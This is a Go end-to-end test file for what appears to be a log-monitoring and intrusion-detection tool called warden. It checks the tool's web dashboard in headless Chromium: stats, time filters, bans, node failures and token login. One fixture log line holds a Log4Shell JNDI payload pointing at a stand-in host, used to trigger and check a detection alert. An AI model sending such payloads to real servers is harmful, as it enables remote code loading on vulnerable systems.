package e2e

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/wardenhq/warden/analytics"
	"github.com/wardenhq/warden/detect"
	"github.com/wardenhq/warden/internal/testenv"
)

// newBrowser starts headless Chromium (Debian's package) with a window of
// width × height and returns a tab's context.
func newBrowser(t *testing.T, width, height int) context.Context {
	t.Helper()
	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(testenv.Tool(t, "chromium")),
		chromedp.NoSandbox, chromedp.DisableGPU, chromedp.WindowSize(width, height))
	actx, cancel := chromedp.NewExecAllocator(context.Background(), opts...)
	t.Cleanup(cancel)
	ctx, cancelTab := chromedp.NewContext(actx)
	t.Cleanup(cancelTab)
	ctx, cancelTimeout := context.WithTimeout(ctx, 3*time.Minute)
	t.Cleanup(cancelTimeout)
	return ctx
}

// do runs browser actions, failing the test on an error.
func do(ctx context.Context, t *testing.T, actions ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	if err := chromedp.Do(ctx, actions...); err != nil {
		t.Fatal(err)
	}
}

// js evaluates expr in the page.
func js[T any](ctx context.Context, t *testing.T, expr string) T {
	t.Helper()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](expr))
	if err != nil {
		t.Fatalf("evaluate %s: %v", expr, err)
	}
	return v
}

// waitPage evaluates expr in the page every 100 ms until it is true; an
// evaluation cut off by a navigation (a form posted) is tried again.
func waitPage(ctx context.Context, t *testing.T, timeout time.Duration, what, expr string) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	var last error
	for time.Now().Before(deadline) {
		ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](expr))
		if err == nil && ok {
			return
		}
		last = err
		time.Sleep(100 * time.Millisecond)
	}
	state, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`(document.getElementById('live-text') || {}).textContent + ' | requests ' + (document.getElementById('requests') || {}).textContent`))
	t.Fatalf("waiting %s for %s (%s): %v; page: %s", timeout, what, expr, last, state)
}

// text is the rendered text of the element with that id.
func text(ctx context.Context, t *testing.T, id string) string {
	t.Helper()
	return js[string](ctx, t, fmt.Sprintf(`document.getElementById(%q).textContent`, id))
}

// saveScreenshot writes a full-page PNG of the tab under bench/tmp/dashboard/
// (kept after the test, for a look) and logs its path.
func saveScreenshot(ctx context.Context, t *testing.T, name string) {
	t.Helper()
	// From the top: the sticky bar is drawn where the page is scrolled to.
	if err := chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`window.scrollTo(0, 0)`)); err != nil {
		t.Fatal(err)
	}
	png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(testenv.Root(t), "bench", "tmp", "dashboard")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(dir, name+".png")
	if err := os.WriteFile(p, png, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("screenshot %s", p)
}

// grouped writes n with its digits grouped by thousands, as the page does.
func grouped(n int64) string {
	s := strconv.FormatInt(n, 10)
	var b strings.Builder
	for i, c := range s {
		if i > 0 && (len(s)-i)%3 == 0 && s[i-1] != '-' {
			b.WriteByte(',')
		}
		b.WriteRune(c)
	}
	return b.String()
}

func (c *procCluster) stats(t *testing.T, id, query string) analytics.Stats {
	t.Helper()
	var st analytics.Stats
	if err := getJSON("http://"+c.specs[id].http+"/v1/stats"+query, &st); err != nil {
		t.Fatal(err)
	}
	return st
}

func (c *procCluster) ship(t *testing.T, file string) {
	t.Helper()
	out, err := exec.Command(wardenBin(t), "ship", "--brokers", c.broker, "--topic", c.topic, file).CombinedOutput()
	if err != nil {
		t.Fatalf("warden ship: %v\n%s", err, out)
	}
}

// waitRecords waits until node id has applied n records.
func (c *procCluster) waitRecords(t *testing.T, id string, n int64) {
	t.Helper()
	waitFor(t, 60*time.Second, fmt.Sprintf("%s applied %d records", id, n), func() bool {
		parts, err := c.partitions(id)
		var got int64
		for _, p := range parts {
			got += p.Records
		}
		return err == nil && got == n
	})
}

// TestProcesses_DashboardInABrowser opens the dashboard of a follower of a
// 3-process cluster in headless Chromium, fed the elastic sample through
// warden ship, and checks what the browser renders against the API: the
// request count and the top clients equal /v1/stats, new lines raise the
// count without a reload, an attack line shows as an alert, the time filter
// gives the figures of /v1/stats?from=&to=, a ban and an unban made in the
// page reach /v1/decisions, and a SIGKILLed node's row turns dead and comes
// back alive when it restarts. Screenshots at desktop and phone width go
// to bench/tmp/dashboard/.
func TestProcesses_DashboardInABrowser(t *testing.T) {
	sample := testenv.Data(t, "elastic-apache/apache_logs")
	admin := []string{"--admin-token", "admin-secret"}
	c := newProcClusterWith(t, 3, 4, map[string][]string{"n1": admin, "n2": admin, "n3": admin})
	c.waitOwned(4, 30*time.Second)
	c.ship(t, sample)
	ci, err := c.clusterInfo("n1")
	if err != nil || ci.Leader == "" {
		t.Fatalf("no leader: %v", err)
	}
	var page, victim string
	for _, id := range []string{"n1", "n2", "n3"} {
		switch {
		case id == ci.Leader:
		case page == "":
			page = id
		default:
			victim = id
		}
	}
	c.waitRecords(t, page, 10000)
	base := "http://" + c.specs[page].http

	ctx := newBrowser(t, 1280, 800)
	do(ctx, t, chromedp.Navigate(base+"/"))
	st := c.stats(t, page, "")
	if st.Requests == 0 || st.Requests > 10000 {
		t.Fatalf("/v1/stats: %d requests", st.Requests)
	}
	waitPage(ctx, t, 15*time.Second, "the header to show /v1/stats's requests",
		fmt.Sprintf(`document.getElementById('requests').textContent === %q`, grouped(st.Requests)))
	waitPage(ctx, t, 5*time.Second, "the live indicator",
		`document.getElementById('live').classList.contains('on') && document.getElementById('live-text').textContent === 'live'`)
	// The top clients as the browser shows them: address and count, row by row.
	rows := js[[]string](ctx, t, `Array.from(document.querySelectorAll('#top-ips tbody tr')).map((r) => r.dataset.key + ' ' + r.cells[1].textContent)`)
	var want []string
	for _, kc := range st.TopIPs {
		want = append(want, kc.Key+" "+grouped(kc.Count))
	}
	if strings.Join(rows, "\n") != strings.Join(want, "\n") {
		t.Errorf("top IPs in the page:\n%s\n/v1/stats top_ips:\n%s", strings.Join(rows, "\n"), strings.Join(want, "\n"))
	}
	if got := text(ctx, t, "malformed"); got != grouped(st.Malformed) {
		t.Errorf("malformed %q, /v1/stats %d", got, st.Malformed)
	}
	saveScreenshot(ctx, t, "elastic-desktop")

	// More lines: the count rises in the same page, no reload.
	js[bool](ctx, t, `window.marker = true`)
	more := filepath.Join(t.TempDir(), "more.log")
	b, err := os.ReadFile(sample)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.SplitAfter(string(b), "\n")
	tail := strings.Join(lines[len(lines)-501:], "") // the newest 500 lines again
	attack := `198.51.100.23 - - [20/May/2015:21:04:30 +0000] "GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1" 404 196 "-" "curl/7.88.1"` + "\n"
	if err := os.WriteFile(more, []byte(tail+attack), 0o644); err != nil {
		t.Fatal(err)
	}
	c.ship(t, more)
	c.waitRecords(t, page, 10501)
	st2 := c.stats(t, page, "")
	if st2.Requests <= st.Requests {
		t.Fatalf("/v1/stats: %d requests after shipping 501 more, %d before", st2.Requests, st.Requests)
	}
	waitPage(ctx, t, 10*time.Second, "the new count without a reload",
		fmt.Sprintf(`document.getElementById('requests').textContent === %q && window.marker === true`, grouped(st2.Requests)))

	// The attack line's alert in the security panel.
	var alerts []detect.Alert
	waitFor(t, 10*time.Second, "the log4shell alert in /v1/alerts", func() bool {
		alerts = nil
		return getJSON(base+"/v1/alerts", &alerts) == nil && len(alerts) > 0
	})
	waitPage(ctx, t, 10*time.Second, "the alert in the security panel",
		`Array.from(document.querySelectorAll('#alerts tbody tr')).some((r) => r.textContent.includes('http-log4shell') && r.textContent.includes('198.51.100.23'))`)
	if got := text(ctx, t, "alerts-count"); got != grouped(int64(len(alerts))) {
		t.Errorf("alerts tile %q, /v1/alerts has %d", got, len(alerts))
	}

	// A custom time range, typed into the filter: the figures of
	// /v1/stats?from=&to=, and the URL holds the view.
	from, to := "2015-05-20T12:00:00Z", "2015-05-20T18:00:00Z"
	do(ctx, t, chromedp.SendKeys(chromedp.ID("from"), from), chromedp.SendKeys(chromedp.ID("to"), to), chromedp.Click(chromedp.ID("apply")))
	ranged := c.stats(t, page, "?from="+from+"&to="+to)
	waitPage(ctx, t, 10*time.Second, "the figures of the range",
		fmt.Sprintf(`document.getElementById('requests').textContent === %q`, grouped(ranged.Requests)))
	if u := js[string](ctx, t, `location.search`); !strings.Contains(u, "from="+url.QueryEscape(from)) {
		t.Errorf("the URL does not keep the range: %s", u)
	}
	if first := js[string](ctx, t, `document.querySelector('#top-ips tbody tr').dataset.key`); first != ranged.TopIPs[0].Key {
		t.Errorf("top IP of the range %q, /v1/stats says %q", first, ranged.TopIPs[0].Key)
	}
	// The last hour (of event time): the range the page shows is the one
	// /v1/stats gives the same figures for.
	do(ctx, t, chromedp.Click(chromedp.CSS(`[data-range="1h"]`)))
	waitPage(ctx, t, 10*time.Second, "the last hour", `location.search === '?range=1h' && document.getElementById('from').placeholder !== ''`)
	time.Sleep(1500 * time.Millisecond) // an event of the new filter
	hourFrom := js[string](ctx, t, `document.getElementById('from').placeholder`)
	hourTo := js[string](ctx, t, `document.getElementById('to').placeholder`)
	hour := c.stats(t, page, "?from="+hourFrom+"&to="+hourTo)
	if got := text(ctx, t, "requests"); got != grouped(hour.Requests) || hour.Requests == 0 {
		t.Errorf("last hour %s..%s: the page shows %s requests, /v1/stats %d", hourFrom, hourTo, got, hour.Requests)
	}
	do(ctx, t, chromedp.Click(chromedp.CSS(`[data-range="all"]`)))
	waitPage(ctx, t, 10*time.Second, "all retained again", fmt.Sprintf(`document.getElementById('requests').textContent === %q`, grouped(st2.Requests)))

	// Ban and unban from the page with the admin token.
	do(ctx, t, chromedp.SendKeys(chromedp.ID("admin-token"), "admin-secret"), chromedp.SendKeys(chromedp.ID("ban-value"), "203.0.113.99"),
		chromedp.SendKeys(chromedp.ID("ban-reason"), "seen in the dashboard"), chromedp.Click(chromedp.ID("ban-submit")))
	waitPage(ctx, t, 10*time.Second, "the ban in the decisions table",
		`Array.from(document.querySelectorAll('#decisions tbody tr')).some((r) => r.textContent.includes('203.0.113.99'))`)
	var ds []detect.DecisionView
	if err := getJSON(base+"/v1/decisions", &ds); err != nil {
		t.Fatal(err)
	}
	var id int64
	for _, d := range ds {
		if d.Value == "203.0.113.99" && d.Reason == "seen in the dashboard" {
			id = d.ID
		}
	}
	if id == 0 {
		t.Fatalf("the page's ban is not in /v1/decisions: %+v", ds)
	}
	if v := js[string](ctx, t, `localStorage.length + ' ' + document.cookie`); v != "1 " && v != "0 " {
		t.Errorf("the page stored something besides the theme: %q", v)
	}
	do(ctx, t, chromedp.Click(chromedp.CSS(fmt.Sprintf(`#decisions tr[data-key="%d"] button`, id))))
	waitPage(ctx, t, 10*time.Second, "the unban", `!Array.from(document.querySelectorAll('#decisions tbody tr')).some((r) => r.textContent.includes('203.0.113.99'))`)
	waitFor(t, 5*time.Second, "the unban in /v1/decisions", func() bool {
		ds = nil
		if getJSON(base+"/v1/decisions", &ds) != nil {
			return false
		}
		for _, d := range ds {
			if d.ID == id {
				return false
			}
		}
		return true
	})

	// A node killed: its row turns dead within seconds; restarted: alive.
	row := func(state string) string {
		return fmt.Sprintf(`(() => { const r = document.querySelector('#members tr[data-key=%q]'); return !!r && r.cells[1].textContent === %q; })()`, victim, state)
	}
	waitPage(ctx, t, 5*time.Second, victim+" alive", row("alive"))
	killed := time.Now()
	c.killAgent(victim)
	waitPage(ctx, t, 10*time.Second, victim+" dead", row("dead"))
	t.Logf("%s SIGKILLed: its row turned dead after %.1f s", victim, time.Since(killed).Seconds())
	saveScreenshot(ctx, t, "elastic-desktop-node-dead")
	c.startAgent(victim, 3)
	waitPage(ctx, t, 30*time.Second, victim+" alive again", row("alive"))

	// Phone width: the same page in one column, nothing wider than it.
	do(ctx, t, chromedp.EmulateViewport(390, 844, chromedp.EmulateScale(2), chromedp.EmulateMobile))
	waitPage(ctx, t, 5*time.Second, "the page to fit 390 px", `document.documentElement.scrollWidth <= 392`)
	time.Sleep(500 * time.Millisecond)
	saveScreenshot(ctx, t, "elastic-phone")
}

// TestProcesses_DashboardWithHTTPToken: with --http-token, no token gets
// 401 from the API, the stream and the page (a login form); the right token
// typed into the form gives a session cookie (HttpOnly, SameSite=Strict, not
// the token) with which the page and the API work, for reads only.
func TestProcesses_DashboardWithHTTPToken(t *testing.T) {
	const token, adminToken = "read-secret-0123", "admin-secret-4567"
	c := newProcClusterWith(t, 1, 2, map[string][]string{"n1": {"--http-token", token, "--admin-token", adminToken}})
	base := "http://" + c.specs["n1"].http
	waitFor(t, 30*time.Second, "node up", func() bool {
		resp, err := http.Get(base + "/healthz")
		if err == nil {
			resp.Body.Close()
		}
		return err == nil && resp.StatusCode == 200
	})
	p := newProducer(t, c.broker, c.topic, 3)
	p.produce(200)

	get := func(path, bearer string) (int, string) {
		req, _ := http.NewRequest("GET", base+path, nil)
		if bearer != "" {
			req.Header.Set("Authorization", "Bearer "+bearer)
		}
		resp, err := httpClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
		return resp.StatusCode, string(b)
	}
	for _, path := range []string{"/v1/stats", "/v1/events", "/v1/cluster", "/metrics"} {
		if code, _ := get(path, ""); code != http.StatusUnauthorized {
			t.Errorf("GET %s without a token: %d, want 401", path, code)
		}
	}
	if code, body := get("/", ""); code != http.StatusUnauthorized || !strings.Contains(body, `name="token"`) {
		t.Errorf("GET / without a token: %d, want 401 and the login form:\n%.300s", code, body)
	}
	if code, _ := get("/v1/stats", token); code != http.StatusOK {
		t.Errorf("GET /v1/stats with the token: %d", code)
	}
	waitFor(t, 30*time.Second, "the records applied", func() bool {
		req, _ := http.NewRequest("GET", base+"/v1/stats", nil)
		req.Header.Set("Authorization", "Bearer "+token)
		resp, err := httpClient.Do(req)
		if err != nil {
			return false
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return strings.Contains(string(b), `"requests": 200,`)
	})

	ctx := newBrowser(t, 1280, 800)
	do(ctx, t, chromedp.Navigate(base+"/?range=24h"))
	waitPage(ctx, t, 10*time.Second, "the login form", `!!document.getElementById('token') && !document.getElementById('requests')`)
	do(ctx, t, chromedp.SendKeys(chromedp.ID("token"), "wrong"), chromedp.Click(chromedp.ID("login-submit")))
	waitPage(ctx, t, 10*time.Second, "the wrong token refused", `(document.getElementById('login-error') || {}).textContent === 'Wrong token.'`)
	do(ctx, t, chromedp.SendKeys(chromedp.ID("token"), token), chromedp.Click(chromedp.ID("login-submit")))
	waitPage(ctx, t, 15*time.Second, "the dashboard after the login",
		`!!document.getElementById('requests') && document.getElementById('requests').textContent === '200' && document.getElementById('live-text').textContent === 'live'`)
	if q := js[string](ctx, t, `location.search`); q != "?range=24h" {
		t.Errorf("the login lost the view: %q", q)
	}
	if js[bool](ctx, t, `document.cookie.includes('warden_session')`) {
		t.Error("the page's script can read the session cookie")
	}
	cookies, err := chromedp.Call(ctx, network.GetCookies, network.GetCookiesParams{})
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, ck := range cookies.Cookies {
		if ck.Name != "warden_session" {
			continue
		}
		found = true
		if !ck.HTTPOnly || ck.SameSite != network.CookieSameSiteStrict || strings.Contains(ck.Value, token) {
			t.Errorf("session cookie %+v: want HttpOnly, SameSite=Strict, not holding the token", ck)
		}
	}
	if !found {
		t.Error("no session cookie")
	}
	// The cookie reads the API from the page; it does not ban.
	statuses, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(async () => {
		const r = await fetch('/v1/stats');
		const w = await fetch('/v1/decisions', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"value":"203.0.113.5"}'});
		return r.status + ' ' + w.status;
	})()`, chromedp.EvalAwaitPromise))
	if err != nil || statuses != "200 401" {
		t.Errorf("from the logged-in page: GET /v1/stats and POST /v1/decisions answered %q (%v), want 200 401", statuses, err)
	}
	saveScreenshot(ctx, t, "token-dashboard")
	// A link from another site arrives without the SameSite=Strict cookie:
	// the login page finds the session good and goes on to the view.
	do(ctx, t, chromedp.Navigate(`data:text/html,<a id="go" href="`+base+`/?range=1h">the dashboard</a>`), chromedp.Click(chromedp.ID("go")))
	waitPage(ctx, t, 15*time.Second, "the dashboard through a link from another site",
		`location.search === '?range=1h' && !!document.getElementById('requests') && document.getElementById('live-text').textContent === 'live'`)
	do(ctx, t, chromedp.Click(chromedp.CSS(`#logout button`)))
	waitPage(ctx, t, 10*time.Second, "the login form after logging out", `!!document.getElementById('token')`)
	if code, _ := get("/v1/events", ""); code != http.StatusUnauthorized {
		t.Errorf("stream without a token after the test: %d", code)
	}
}
